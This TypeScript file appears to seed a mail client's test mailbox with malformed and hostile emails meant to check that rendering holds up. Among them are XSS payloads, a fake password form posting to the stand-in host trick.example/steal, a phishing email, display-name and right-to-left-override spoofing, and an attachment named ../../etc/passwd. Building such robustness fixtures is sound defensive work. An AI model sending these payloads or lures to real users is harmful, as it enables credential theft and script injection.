import { minutesBefore, workingTime } from './moment.ts';
import type { Random } from './random.ts';
import { rawLetter } from './raw-letter.ts';
import type { RawLetter } from './raw-letter.ts';
import type { SeedMessage } from './seed-message.ts';

const to = 'To: Ann Lee <ann@example.test>';
const plain = ['MIME-Version: 1.0', 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit'];
const html = ['MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: 8bit'];

/** What real mailboxes hold too: broken, boundless, misleading, hostile. None of it may break a page. */
const letters: (Pick<RawLetter, 'headers' | 'body' | 'bare'> & { hoursAgo?: number })[] = [
  { headers: ['From: Ben Carter <ben@carter.example>', to, ...plain], body: 'Forgot the subject again. Are you in the pub later?\n', hoursAgo: 44 },
  { headers: ['From: Ben Carter <ben@carter.example>', to, 'Subject: ', ...plain], body: 'And once more, this time an empty one.\n' },
  { headers: ['From: ', to, 'Subject: Nobody wrote this', ...plain], body: 'A From header without anybody in it.\n' },
  { headers: [to, 'Subject: No From at all', ...plain], body: 'RFC 5322 asks for a From. This one has none.\n' },
  { headers: ['From: undisclosed-recipients:;', 'To: undisclosed-recipients:;', 'Subject: To a group of nobody', ...plain], body: 'Group syntax on both sides.\n' },
  { headers: ['From: Tidewater Works <list@example.test>', 'To: Office: mei@example.test, olu@example.test;, Ann Lee <ann@example.test>', 'Subject: To a named group and Ann', ...plain], body: 'Lunch at one.\n' },
  { headers: ['From: Gwen Hughes <gwen@larchandsons.example>', to, `Subject: ${'A subject that goes on and on about larch, '.repeat(40)}and then stops`, ...plain], body: 'The subject says it all, several times.\n' },
  { headers: ['From: Ruth Lee <ruth.lee@post.example>', to, 'Subject: =?utf-8?B?8J+OieKcqPCfkajigI3wn5Gp4oCN8J+Rp+KAjfCfkabwn4+z77iP4oCN8J+MiPCfpbM=?=', ...plain], body: '👩‍🚀🛶🌊 That is how the summer was.\n' },
  { headers: ['From: =?utf-8?Q?invoice=E2=80=AEcod=2Eexe?= <billing@trick.example>', to, 'Subject: =?utf-8?Q?Report_=E2=80=AEfdp=2Egnp=2Eexe_attached?=', ...plain], body: 'The name and the subject turn the reading direction around (U+202E).\n' },
  { headers: ['From: "ann@example.test" <attacker@trick.example>', to, 'Subject: You sent this to yourself?', ...plain], body: 'The display name is an address, and not the one it comes from.\n' },
  { headers: ['From: Z\u0351\u036b\u0343a\u0363l\u0368go <zalgo@trick.example>', to, 'Subject: T\u0322\u0321\u031b\u0353o\u0334\u0347\u0353 m\u0336\u0321any m\u0334arks', ...plain], body: 'Combining marks above and below.\n' },
  { headers: ['From: Raw Eight Bit <raw@letters.example>', to, Buffer.from('Subject: Gr\xfc\xdfe ohne Kodierung', 'latin1'), 'MIME-Version: 1.0', 'Content-Type: text/plain'], body: Buffer.from('Ein Brief in Latin-1 ohne ein Wort dar\xfcber.\r\n', 'latin1') },
  { headers: ['From: Odd Boundary <odd@letters.example>', to, 'Subject: A multipart that never ends', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="never"'], body: '--never\nContent-Type: text/plain\n\nThe closing boundary is missing.\n--never\nContent-Type: image/png; name="cut.png"\nContent-Transfer-Encoding: base64\n\niVBORw0KGgoAAAANSUhEUg\n' },
  { headers: ['From: Hollow <hollow@letters.example>', to, 'Subject: A multipart without parts', 'MIME-Version: 1.0', 'Content-Type: multipart/alternative; boundary="none"'], body: 'There is no boundary line anywhere in here.\n' },
  { headers: ['From: Wrong Transfer <wrong@letters.example>', to, 'Subject: Says base64, is not', 'MIME-Version: 1.0', 'Content-Type: text/plain', 'Content-Transfer-Encoding: base64'], body: 'This is plainly not base64!\n' },
  { headers: ['From: Script Kiddie <kid@trick.example>', to, 'Subject: <script>alert(1)</script><b>bold</b> & "quotes"', ...html], body: '<h1>Hello</h1><script>document.title="owned"</script><img src=x onerror="top.location=\'https://trick.example/\'"><a href="javascript:alert(1)">click</a><form action="https://trick.example/steal"><input name="password" type="password"><button>Sign in again</button></form><iframe src="https://trick.example"></iframe><style>body{display:none}*{position:fixed!important}</style><svg onload=alert(1)></svg><meta http-equiv="refresh" content="0;url=https://trick.example">\n' },
  { headers: ['From: Your Bank <security@bank-example-login.example>', to, 'Subject: Please confirm your account', ...html], body: '<p>Dear customer,</p><p>Please sign in at <a href="https://bank-example-login.example/x">https://www.bank.example/</a> within 24 hours.</p>\n' },
  { headers: ['From: Style Heavy <css@letters.example>', to, 'Subject: Colours that fight', ...html], body: '<body style="background:#ff00ff"><div style="color:#00ff00;background:url(https://pictures.trick.example/bg.png);width:3000px"><marquee>Wide and loud</marquee><table border=5 width=2800><tr><td>very</td><td>wide</td></tr></table></div></body>\n' },
  { headers: ['From: Deep Nest <deep@letters.example>', to, 'Subject: Quotes inside quotes', ...plain], body: `${Array.from({ length: 30 }, (_, depth) => `${'>'.repeat(30 - depth)} level ${30 - depth}`).join('\n')}\n\nAnd an answer.\n` },
  { headers: ['From: One Line <line@letters.example>', to, 'Subject: One very long line', ...plain], body: `${'https://letters.example/'.padEnd(900, 'a')} and some words after it.\n` },
  { headers: ['From: Timeless <timeless@letters.example>', to, 'Subject: No date, no id', ...plain], body: 'Neither Date nor Message-ID.\n', bare: true },
  { headers: ['From: Far Future <future@letters.example>', to, 'Subject: Greetings from 2099', 'Date: Mon, 32 Foo 2099 25:61:00 +9999', 'Message-ID: not an id', ...plain], body: 'The date cannot be.\n', bare: true },
  { headers: ['From: Twice <twice@letters.example>', 'From: Thrice <thrice@letters.example>', to, 'Subject: First subject', 'Subject: Second subject', ...plain], body: 'Headers that may come once came twice.\n' },
  { headers: ['From: Empty <empty@letters.example>', to, 'Subject: Nothing inside', ...plain], body: '' },
  { headers: ['From: RFC 2231 <names@letters.example>', to, 'Subject: A file name in three pieces', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b2231"'], body: "--b2231\nContent-Type: text/plain\n\nThe name of the attachment is continued and encoded (RFC 2231).\n--b2231\nContent-Type: text/plain;\n name*0*=utf-8''Gel%C3%A4nder%20;\n name*1*=und%20Br%C3%BCcke%20;\n name*2=\"final.txt\"\nContent-Disposition: attachment;\n filename*0*=utf-8''Gel%C3%A4nder%20;\n filename*1*=und%20Br%C3%BCcke%20;\n filename*2=\"final.txt\"\n\nInhalt.\n--b2231\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"../../etc/passwd\"\n\nA name that wants to climb.\n--b2231\nContent-Type: application/pdf; name=\"=?utf-8?B?UmVjaG51bmcgw7xiZXIgTm92ZW1iZXIucGRm?=\"\nContent-Disposition: attachment; filename=\"=?utf-8?B?UmVjaG51bmcgw7xiZXIgTm92ZW1iZXIucGRm?=\"\n\n%PDF-1.4 (not really)\n--b2231\nContent-Type: image/svg+xml\nContent-Disposition: inline; filename=\"drawing.svg\"\n\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script><rect width=\"20\" height=\"20\"/></svg>\n--b2231--\n" },
];

export function oddities(now: Date, random: Random): SeedMessage[] {
  return letters.map(({ hoursAgo, ...letter }) => {
    const at = hoursAgo === undefined ? workingTime(now, random.between(4, 900), random) : minutesBefore(now, hoursAgo * 60);
    return rawLetter({ ...letter, at, mailbox: hoursAgo === undefined ? 'Odd mail' : 'INBOX' });
  });
}
